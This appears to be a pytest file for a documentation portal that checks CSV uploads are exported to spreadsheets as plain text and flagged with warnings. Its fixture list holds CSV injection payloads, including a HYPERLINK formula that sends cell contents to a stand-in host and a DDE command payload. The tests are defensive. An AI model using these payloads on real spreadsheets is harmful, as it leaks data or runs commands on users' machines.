"""Spreadsheets the portal writes never run a formula (OWASP, CSV injection), and an editor is
told about cells a spreadsheet would read as one."""

from __future__ import annotations

import io

import openpyxl
from bs4 import BeautifulSoup

from portal import cli, commands
from tests.conftest import item

# Every start OWASP lists, inside quotes where the CSV needs them; numbers stay numbers.
CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
CSV = "Tên;Ghi chú;Số\n" + "".join(
    f'Đơn vị {n};"{cell.replace(chr(34), chr(34) * 2)}";{n * 10}\n'
    for n, cell in enumerate(CELLS, start=1)
)
FILES = {
    "attachments/danh-sach.csv": CSV,
    "attachments/danh-sach.yml": "title: Danh sách\nkind: Danh sách\ndate: 2024-01-01\n",
}


def test_every_cell_is_a_value_with_the_source_text(project, capsys) -> None:
    proj = project()
    proj.write(FILES)
    assert commands.build(proj.root / "mkdocs.yml", proj.site) == 0
    capsys.readouterr()
    sheet = openpyxl.load_workbook(io.BytesIO((proj.site / "tai-lieu/danh-sach.xlsx").read_bytes()))
    rows = list(sheet.active.iter_rows(min_row=2))
    assert [row[1].value for row in rows] == CELLS
    assert all(row[1].data_type == "s" for row in rows)  # text, never "f"
    assert [row[2].value for row in rows] == [10, 20, 30, 40, 50, 60]
    assert all(row[2].data_type == "n" for row in rows)
    # The original is published byte for byte, and its page shows each text as written and warns.
    assert (proj.site / "tai-lieu/danh-sach.csv").read_bytes() == CSV.encode("utf-8")
    page = BeautifulSoup((proj.site / "tai-lieu/danh-sach/index.html").read_text(), "lxml")
    cells = [tr.select("td")[1].get_text() for tr in page.select(".portal-datatable tbody tr")]
    assert cells == [cell.replace("\r", "\n") for cell in CELLS]  # HTML reads a CR as a LF
    assert "6 ô" in page.select_one("[data-field=formulas]").get_text()


def test_check_names_each_formula_cell_by_line_and_column(project, capsys) -> None:
    proj = project()
    proj.write(FILES)
    assert cli.main(["check", "-f", str(proj.root / "mkdocs.yml")]) == 0
    warnings = [line for line in capsys.readouterr().out.splitlines() if "Cảnh báo" in line]
    where = [line.split(": ", 2)[1] for line in warnings]
    # The CR cell spans two lines of the file: the next row starts one line later.
    assert where == [f"attachments/danh-sach.csv:{n}" for n in (2, 3, 4, 5, 6, 7)]
    assert all("cột 2 (Ghi chú)" in line and "công thức" in line for line in warnings)
    assert cli.main(["check", "-f", str(proj.root / "mkdocs.yml"), "--format", "github"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert (
        sum(line.startswith("::warning file=attachments/danh-sach.csv,line=") for line in lines)
        == 6
    )


def test_warnings_come_out_beside_the_problems(project, capsys) -> None:
    proj = project({"news/hong.md": item("Tin", "31/12/2024")})
    proj.write(FILES)
    assert cli.main(["check", "-f", str(proj.root / "mkdocs.yml")]) == 1
    out = capsys.readouterr().out
    assert "news/hong.md:3: date" in out and out.count("Cảnh báo: attachments/danh-sach.csv") == 6
